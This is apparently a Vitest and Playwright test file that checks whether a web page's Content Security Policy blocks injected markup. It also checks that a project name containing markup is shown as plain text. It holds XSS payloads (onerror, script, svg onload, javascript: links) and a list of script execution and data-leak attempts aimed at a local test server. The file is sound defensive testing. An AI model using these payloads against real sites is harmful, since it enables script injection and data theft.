/**
 * What a name or an answer could do that reached a page as markup: nothing, because the policy of content lets nothing
 * inline run and nothing leave, even if the program itself put it there.
 */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { describe, expect, it, onTestFinished } from 'vitest';
import { scenario } from '../e2e/scenario.ts';
import { launchChromium, openContext } from '../helpers/chromium.ts';
import { sightline } from '../helpers/command-line.ts';
import { on, KEY, PROJECT, reply, startPlayedService } from '../helpers/played-service.ts';
import { openWebHost } from '../helpers/web-host.ts';

const MARKUP =
  `<img src=x onerror="globalThis.ran=1"><script>globalThis.ran=2</script><svg onload="globalThis.ran=3">` +
  `<a href="javascript:globalThis.ran=4">x</a>`;

/** Attempts by a script of the page's own: each is put into the page, and what it throws is kept. */
const buildAttempts = (elsewhere: string): string => `
const put = (name, attributes, text) => {
  const element = document.createElement(name);
  for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
  if (text !== undefined) element.append(text);
  document.body.append(element);
  return element;
};
const attempts = {
  markup: () => { document.body.innerHTML += ${JSON.stringify(MARKUP)}; },
  adjacent: () => document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(MARKUP)}),
  written: () => document.write(${JSON.stringify(MARKUP)}),
  parsed: () => document.body.append(...new DOMParser().parseFromString(${JSON.stringify(MARKUP)}, 'text/html').body.childNodes),
  inlineScript: () => put('script', {}, 'globalThis.ran = 5'),
  handler: () => put('img', { src: 'x', onerror: 'globalThis.ran = 6' }),
  link: () => put('a', { href: 'javascript:globalThis.ran = 7' }).click(),
  evaluated: () => eval('globalThis.ran = 8'),
  built: () => new Function('globalThis.ran = 9')(),
  timer: () => setTimeout('globalThis.ran = 10'),
  style: () => put('style', {}, 'body { color: rgb(1, 2, 3) }'),
  styled: () => put('p', { style: 'color: rgb(1, 2, 3)', id: 'styled' }),
  framed: () => put('iframe', { srcdoc: '<script>parent.ran = 11</script>' }),
  dataFrame: () => put('iframe', { src: 'data:text/html,<script>parent.ran = 12</script>' }),
  dataScript: () => put('script', { src: 'data:text/javascript,globalThis.ran = 13' }),
  foreignScript: () => put('script', { src: '${elsewhere}/script.js' }),
  foreignImage: () => put('img', { src: '${elsewhere}/image.png?leak' }),
  foreignStyle: () => put('link', { rel: 'stylesheet', href: '${elsewhere}/style.css' }),
  asked: () => void fetch('${elsewhere}/fetch?leak', { mode: 'no-cors' }).catch(() => undefined),
  beacon: () => navigator.sendBeacon('${elsewhere}/beacon?leak', 'leak'),
  socket: () => new WebSocket('${elsewhere.replace('http', 'ws')}/socket?leak'),
  events: () => new EventSource('${elsewhere}/events?leak'),
  worker: () => new Worker(URL.createObjectURL(new Blob(['fetch("${elsewhere}/worker")']))),
  object: () => put('object', { data: '${elsewhere}/object' }),
  form: () => put('form', { action: '${elsewhere}/form', method: 'post' }).submit(),
  base: () => put('base', { href: '${elsewhere}/' }),
};
for (const [name, attempt] of Object.entries(attempts)) {
  try { attempt(); } catch { /* refused at once */ }
}
document.documentElement.dataset.attempts = Object.keys(attempts).length;
`;

async function startElsewhere(): Promise<{ url: string; asked: string[] }> {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end('globalThis.ran = 14');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
  onTestFinished(() => {
    server.close();
    server.closeAllConnections();
  });
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked };
}

describe('the policy of content', () => {
  it('lets nothing run, load or leave that the page was made to hold', async () => {
    const elsewhere = await startElsewhere();
    const { host } = await openWebHost({ script: buildAttempts(elsewhere.url) });
    const context = await openContext({}, launchChromium);
    onTestFinished(() => context.close());
    const page = await context.newPage();
    await page.addInitScript(`globalThis.refused = [];
      document.addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));`);
    await page.goto(host.url, { waitUntil: 'networkidle' });
    expect(await page.evaluate('Number(document.documentElement.dataset.attempts)')).toBe(26);
    expect(await page.evaluate('globalThis.ran')).toBeUndefined();
    expect(await page.evaluate('getComputedStyle(document.body).color')).not.toBe('rgb(1, 2, 3)');
    expect(await page.evaluate(`getComputedStyle(document.querySelector('#styled')).color`)).not.toBe(
      'rgb(1, 2, 3)',
    );
    expect(elsewhere.asked).toEqual([]);
    const whereItStays = await page.evaluate<string[]>('[location.href, document.baseURI]');
    expect(whereItStays.map((url) => url.split('#')[0])).toEqual([`${host.address}/`, `${host.address}/`]);
    // What needs markup or code from a text is stopped before its own directive is asked.
    const refused = new Set(await page.evaluate<string[]>('refused'));
    expect([...refused].sort()).toEqual([
      'base-uri',
      'connect-src',
      'form-action',
      'frame-src',
      'img-src',
      'require-trusted-types-for',
      'script-src-elem',
      'style-src-attr',
      'style-src-elem',
    ]);
  });
});

describe('a project whose name is markup', () => {
  scenario(
    'desktop',
    'shows it as text, runs nothing of it, and asks nobody',
    async ({ page }) => {
      await page.getByText('<script>globalThis.ran=2</script>').first().waitFor();
      expect(await page.evaluate('globalThis.ran')).toBeUndefined();
      expect(await page.locator('img[src="x"]').count()).toBe(0);
    },
    {
      prepare: async (home) => {
        const named = { id: PROJECT, name: MARKUP, ownBrandName: MARKUP, createdAt: '2026-01-01T00:00:00Z' };
        const service = await startPlayedService(on('/projects', () => reply([named])));
        const env = { SIGHTLINE_API_KEY: KEY };
        const synced = await sightline(home, ['sync', '--base-url', service.baseUrl], env);
        expect(synced.status).toBe(0);
        return {};
      },
    },
  );
});
